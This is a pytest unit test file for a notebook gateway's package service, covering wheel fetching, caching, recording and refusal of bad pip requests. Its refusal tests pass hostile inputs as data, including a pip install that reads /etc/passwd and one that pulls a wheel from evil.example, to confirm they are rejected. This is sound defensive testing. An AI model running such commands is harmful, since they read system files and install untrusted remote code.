"""``PackageService`` (the core's ``KernelPackages``) on a real wheel cache with a fake fetch helper, a fake store and
a fake kernel connection: what a cell's pip lines fetch, what is refused before any fetch, what is recorded, and
what comes back after a new container. The real helper, index and kernels: tests/integration/test_packages.py."""

from __future__ import annotations

import asyncio
import hashlib
import json
from pathlib import Path
from typing import Any

import pytest

from gateway.kernels.kernel import Kernel
from gateway.packages.cache import Wheel
from gateway.packages.fetcher import FetchJob
from gateway.packages.local_host import LocalPackageHost
from gateway.packages.service import PackageService
from gateway.packages.settings import PackageSettings
from gateway.settings import Settings


class FakeFetcher:
    """Writes what a helper would: one small wheel per requirement (``name-1.0``) and ``result.json``."""

    def __init__(self) -> None:
        self.jobs: list[FetchJob] = []

    async def image_id(self, image: str) -> str:
        return f"sha256:{image}"

    async def run(self, job: FetchJob) -> None:
        self.jobs.append(job)
        wheels = []
        for requirement in job.requirements:
            name = requirement.split("=")[0].split(">")[0].replace("-", "_")
            filename = f"{name}-1.0-py3-none-any.whl"
            data = f"wheel of {name}".encode()
            (job.out / filename).write_bytes(data)
            sha256 = hashlib.sha256(data).hexdigest()
            wheels.append({"name": name, "version": "1.0", "filename": filename, "sha256": sha256, "size": len(data)})
        (job.out / "result.json").write_text(json.dumps({"ok": True, "wheels": wheels}))

    def close(self) -> None:
        return None


class FakeStore:
    def __init__(self, saved: dict[int, tuple[list[str], list[dict[str, Any]]]] | None = None) -> None:
        self.saved = dict(saved or {})

    async def save_packages(self, kernel_id: int, requirements: list[str], wheels: list[dict[str, Any]]) -> None:
        self.saved[kernel_id] = (list(requirements), list(wheels))

    async def load_packages(self, instance: str) -> dict[int, tuple[list[str], list[dict[str, Any]]]]:
        return dict(self.saved)


class FakeClient:
    """The kernel's connection: records what the gateway asks the kernel to evaluate."""

    def __init__(self) -> None:
        self.expressions: list[str] = []

    async def evaluate(self, expression: str, timeout: float) -> str:
        self.expressions.append(expression)
        return repr("Successfully installed\n")


def service_for(tmp_path: Path, store: FakeStore | None = None, **config: Any) -> tuple[PackageService, FakeFetcher]:
    settings = Settings(instance="unit", kernels_dir=Path("/tmp/jc-unit"))
    package_settings = PackageSettings(packages_dir=tmp_path / "packages", **config)
    service = PackageService(settings, store or FakeStore(), package_settings)
    host = service.host
    assert isinstance(host, LocalPackageHost)
    host.fetcher.close()
    fetcher = FakeFetcher()
    host.fetcher = fetcher  # type: ignore[assignment]
    service.config.package_index_url = "https://index.example/simple"
    return service, fetcher


def local(service: PackageService) -> LocalPackageHost:
    assert isinstance(service.host, LocalPackageHost)
    return service.host


def kernel(kernel_id: int) -> Kernel:
    result = Kernel(id=kernel_id)
    result.client = FakeClient()  # type: ignore[assignment]
    return result


def test_a_cells_pip_lines_are_fetched_linked_and_recorded_and_a_second_kernel_uses_the_cache(tmp_path: Path) -> None:
    async def scenario() -> None:
        store = FakeStore()
        service, fetcher = service_for(tmp_path, store)
        await service.start_up(set())
        first, second = kernel(1), kernel(2)
        assert await service.before_run(first, "print(1)") is None and fetcher.jobs == []
        assert await service.before_run(first, "%pip install tabulate\nimport tabulate") is None
        assert await service.before_run(second, "!pip install -q tabulate") is None
        assert len(fetcher.jobs) == 1  # the second kernel's request was resolved from the cache
        for kernel_id in (1, 2):
            directory = local(service).wheel_dir(kernel_id)
            assert sorted(p.name for p in directory.iterdir()) == ["manifest.json", "tabulate-1.0-py3-none-any.whl"]
            assert json.loads((directory / "manifest.json").read_text()) == {
                "tabulate": ["tabulate-1.0-py3-none-any.whl"]
            }
        assert store.saved[1][0] == ["tabulate"] and store.saved[1][1][0]["filename"].startswith("tabulate-1.0")
        assert service.installed(1)["requirements"] == ["tabulate"]
        await service.forget(1)
        assert not local(service).wheel_dir(1).joinpath("tabulate-1.0-py3-none-any.whl").exists()

    asyncio.run(scenario())


@pytest.mark.parametrize(
    ("code", "ename"),
    [
        ("%pip install -r /etc/passwd", "InvalidPackageRequest"),
        ("%pip install https://evil.example/x.whl", "InvalidPackageRequest"),
        ("%pip install requests", "PackageNotAllowed"),
        ("%pip install a b c", "PackageLimitExceeded"),
    ],
)
def test_refusals_are_the_cells_error_and_nothing_is_fetched(tmp_path: Path, code: str, ename: str) -> None:
    async def scenario() -> None:
        service, fetcher = service_for(tmp_path, packages_deny="requests", packages_max_per_request=2)
        await service.start_up(set())
        refused = await service.before_run(kernel(1), code)
        assert refused is not None and refused["output_type"] == "error" and refused["ename"] == ename
        assert fetcher.jobs == [] and service.installed(1)["requirements"] == []

    asyncio.run(scenario())


def test_packages_off_refuses_naming_the_setting(tmp_path: Path) -> None:
    async def scenario() -> None:
        service, fetcher = service_for(tmp_path, packages="off")
        await service.start_up(set())
        refused = await service.before_run(kernel(1), "%pip install tabulate")
        assert refused is not None and "JUPYCELL_PACKAGES=off" in str(refused["evalue"])
        assert fetcher.jobs == [] and not (tmp_path / "packages").exists()  # no cache made while off

    asyncio.run(scenario())


def test_after_a_new_container_the_stored_packages_are_linked_again_and_installed(tmp_path: Path) -> None:
    async def scenario() -> None:
        first, fetcher = service_for(tmp_path)
        await first.start_up(set())
        assert await first.before_run(kernel(7), "%pip install tabulate") is None
        saved = FakeStore({7: (["tabulate"], [w.as_json() for w in first._kernels[7].wheels.values()])})
        again, _ = service_for(tmp_path, saved)  # a restarted gateway: what kernel 7 had comes from the store
        await again.start_up({7})
        for entry in local(again).wheel_dir(7).iterdir():
            entry.unlink()  # e.g. the directory was lost with the host's tmp
        replaced = kernel(7)
        await again.after_launch(replaced)
        assert (local(again).wheel_dir(7) / "tabulate-1.0-py3-none-any.whl").is_file()
        assert replaced.client.expressions == ["__import__('jupycell_pip').install(['tabulate'])"]  # type: ignore[union-attr]
        assert len(fetcher.jobs) == 1  # relinked from the cache, not fetched again
        untouched = kernel(8)
        await again.after_launch(untouched)  # nothing installed: nothing to do
        assert untouched.client.expressions == []  # type: ignore[union-attr]

    asyncio.run(scenario())


def test_wheels_round_trip_through_their_json(tmp_path: Path) -> None:
    data = b"x"
    wheel = Wheel("tabulate", "1.0", "tabulate-1.0-py3-none-any.whl", hashlib.sha256(data).hexdigest(), 1)
    assert Wheel.from_json(wheel.as_json()) == wheel
